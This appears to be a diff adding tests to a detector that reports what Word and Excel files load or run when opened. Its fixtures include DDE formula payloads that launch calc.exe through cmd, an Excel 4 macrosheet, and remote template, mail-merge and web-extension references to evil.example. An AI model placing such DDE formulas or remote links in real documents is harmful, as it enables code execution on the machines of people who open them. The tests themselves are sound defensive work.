@@ -131,6 +131,63 @@ describe("what a Word or Excel file loads when it is opened", () => {
     expect(await loadsOf(name, content)).toHaveLength(1);
   });
 
+  test.each([
+    [
+      "a program, as Excel keeps its data",
+      "xl/externalLinks/externalLink1.xml",
+      '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc.exe"/></externalLink>',
+      "<ddeLink>",
+    ],
+    ["a program in a formula", "xl/worksheets/sheet1.xml", "<f>cmd|'/c calc'!A0</f>", "cmd|'/c calc'!A0"],
+    [
+      "one among texts",
+      "xl/worksheets/sheet1.xml",
+      "<f>'a\"b'!A1+cmd|'/c'!A0&amp;\"x\"</f>",
+      "'a\"b'!A1+cmd|'/c'!A0&\"x\"",
+    ],
+    [
+      "a source of mail merge",
+      "word/settings.xml",
+      '<w:s xmlns:w="u"><w:mailMerge><w:connectString w:val="Data Source=evil.example"/></w:mailMerge></w:s>',
+      "Data Source=evil.example",
+    ],
+    [
+      "a web extension",
+      "word/webextensions/webextension1.xml",
+      '<we:webextension xmlns:we="u"><we:reference store="https://evil.example"/></we:webextension>',
+      "<webextension>",
+    ],
+    ["buttons that call code", "customUI/customUI.xml", '<customUI onLoad="x"/>', "<customUI>"],
+    ["an outer cache", "xl/pivotCache/d1.xml", '<p><cacheSource type="external"/></p>', "<cacheSource>"],
+    [
+      "a history of prices",
+      "xl/worksheets/sheet1.xml",
+      '<f>_xlfn.STOCKHISTORY("MSFT",1)</f>',
+      '_xlfn.STOCKHISTORY("MSFT",1)',
+    ],
+    ["a cube", "xl/worksheets/sheet1.xml", '<f>CUBEVALUE("c","m")</f>', 'CUBEVALUE("c","m")'],
+    ["an Excel 4 macro", "xl/macrosheets/sheet1.xml", '<xm:macrosheet xmlns:xm="u"/>', "<macrosheet>"],
+  ])("%s is named", async (_, name, content, place) => {
+    expect(await loadsOf(name, content)).toContain(place);
+  });
+
+  test("a file within the file is looked into, and named where it cannot be", async () => {
+    const rels = relations("attachedTemplate", "https://evil.example/t.dotm");
+    const inner = (entries: Record<string, string | Buffer>) =>
+      officeFileOf(entries).then((bytes) => Buffer.from(bytes));
+    const within = await inner({ "word/document.xml": "<x/>", "word/_rels/settings.xml.rels": rels });
+    expect(await loadsOf("word/embeddings/a.docx", within)).toEqual(["evil.example"]);
+    expect(await loadsOf("word/embeddings/a.xlsx", await inner({ "xl/workbook.xml": "<x/>" }))).toEqual([]);
+    expect(await loadsOf("word/embeddings/a.xls", Buffer.from("no zip"))).toEqual(["word/embeddings/a.xls"]);
+    const deep = await inner({ "a/b.docx": await inner({ "a/c.docx": await inner({ "a/d.docx": within }) }) });
+    expect(await loadsOf("word/embeddings/a.docx", deep)).toEqual(["a/c.docx"]);
+  });
+
+  test("a bar in a text or an inner cache loads nothing", async () => {
+    expect(await loadsOf("xl/worksheets/sheet1.xml", '<f>IF(A1="x|y",\'My sheet\'!A1,"it\'s | so")</f>')).toEqual([]);
+    expect(await loadsOf("xl/pivotCache/d1.xml", '<p><cacheSource type="worksheet"/></p>')).toEqual([]);
+  });
+
   test("small files that would cost much time are refused or read at once", async () => {
     const started = process.cpuUsage();
     await expect(loadsOf("word/styles.xml", "<a>".repeat(30_000))).rejects.toMatchObject({ code: "invalid" });
@@ -152,7 +209,7 @@ describe("what a Word or Excel file loads when it is opened", () => {
     for (const [name, content] of [
       ["word/_rels/document.xml.rels", relations("hyperlink", "https://example.com/")],
       ["word/_rels/document.xml.rels", relations("image", "media/image1.png", "Internal")],
-      ["word/embeddings/book.xlsx", Buffer.from([0x50, 0x4b, 3, 4, 0xff])],
+      ["word/embeddings/book.xlsx", Buffer.from(await officeFileOf({ "xl/workbook.xml": "<x/>" }))],
       ["word/document.xml", word(`${mark("begin")}${run('HYPERLINK "https://example.com"')}${mark("end")}`)],
       [
         "word/document.xml",
